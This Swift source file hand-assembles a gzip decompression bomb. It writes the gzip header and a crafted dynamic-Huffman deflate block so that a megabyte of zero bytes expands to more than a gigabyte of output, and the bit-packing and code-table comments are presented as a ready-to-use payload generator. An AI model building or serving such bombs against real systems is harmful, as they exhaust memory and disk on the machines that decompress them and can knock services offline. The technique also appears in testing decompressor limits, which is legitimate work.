/// The smallest gzip there is of zeros without end, made by hand.
///
/// A single block whose table has three words; "258 times the byte before" is written `0`
/// and its distance, one byte back, is `0` as well. So each byte of zeros that follows the
/// beginning stands for four times 258 zeros: a megabyte for more than a gigabyte.
enum GzipBomb {
  /// The head of the file, the table of the block, and the first zero.
  static let beginning: [UInt8] = {
    var bits = Bits()
    bits.append(0b1, width: 1)  // the last block
    bits.append(0b10, width: 2)  // with its table
    bits.append(286 - 257, width: 5)  // words for bytes and lengths, 0 to 285
    bits.append(1 - 1, width: 5)  // words for distances
    bits.append(18 - 4, width: 4)  // words for lengths of words, in a special order:
    // 16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1
    for length in [0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 1] {
      bits.append(length, width: 3)
    }
    // Of the lengths, 1 is written `0`, 2 is `10`, and 18, a run of absent words, is `11`.
    let one = [0]
    let two = [1, 0]
    func absent(_ count: Int) -> [Int] { [1, 1] + (0..<7).map { (count - 11) >> $0 & 1 } }
    let table = two + absent(138) + absent(117) + two + absent(28) + one + one
    for bit in table { bits.append(bit, width: 1) }
    for bit in [1, 0] { bits.append(bit, width: 1) }  // the byte 0
    return [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255] + bits.bytes
  }()

  static let megabyteOfZeros = [UInt8](repeating: 0, count: 1_000_000)

  private struct Bits {
    private(set) var bytes: [UInt8] = []
    private var count = 0

    /// Adds so many bits, the lowest first; what is left of the last byte is zeros.
    mutating func append(_ value: Int, width: Int) {
      for bit in 0..<width {
        if count % 8 == 0 { bytes.append(0) }
        bytes[count / 8] |= UInt8(value >> bit & 1) << (count % 8)
        count += 1
      }
    }
  }
}
